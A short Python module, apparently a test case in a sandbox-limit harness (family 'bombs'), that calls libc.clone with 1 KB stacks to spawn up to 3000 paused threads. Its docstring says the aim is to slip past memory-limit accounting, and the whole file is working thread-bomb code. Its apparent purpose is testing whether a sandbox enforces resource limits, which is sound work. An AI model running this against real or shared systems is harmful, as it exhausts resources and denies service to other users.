"""Clones thousands of threads with next to no stack, which no limit on memory counts."""
# family: bombs
# machine: x86_64
# seconds: 3

import time

from attack import attempted, facts, module

MOST = 3000
STACK_BYTES = 1024
SHARED = 0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x40000  # all that threads have in common


def algorithm(question):
    global stacks
    ctypes = module("ctypes")
    libc = ctypes.CDLL(None, use_errno=True)
    stacks = ctypes.create_string_buffer(STACK_BYTES * (MOST + 1))
    first = ctypes.addressof(stacks) // 16 * 16
    made = 0
    attempted()
    while made < MOST:
        top = ctypes.c_void_p(first + STACK_BYTES * (made + 1))
        if libc.clone(libc.pause, top, SHARED, None) < 0:
            break
        made += 1
    time.sleep(1.2)
    return made > 2 * facts["threads"]
